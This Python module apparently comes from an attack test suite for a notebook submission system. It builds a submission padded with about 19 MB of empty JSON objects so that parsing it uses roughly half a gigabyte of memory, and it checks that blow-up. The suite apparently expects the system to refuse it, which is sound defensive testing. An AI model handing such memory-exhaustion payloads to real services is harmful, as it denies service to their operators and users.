import json
import tracemalloc

from ..attack import HandedIn
from ..handing_in import lay as lay_notebook


def bomb(right, size):
    text = right.decode()
    return text.replace('"nbformat"', '"bomb": [' + "{}," * (size // 3) + '{}], "nbformat"', 1).encode()


def lay(folder, right, targets):
    lay_notebook(folder, bomb(right, 19_000_000))


def show(folder, right, targets):
    """Parsed, it takes more than twenty times its size: half a gigabyte for each submission."""
    data = bomb(right, 1_000_000)
    tracemalloc.start()
    json.loads(data)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak > 20 * len(data)


ATTACK = HandedIn(
    "Hands in 19 MB of empty brackets, which take half a gigabyte once they are read.",
    lay,
    refused="brackets",
    show=show,
)
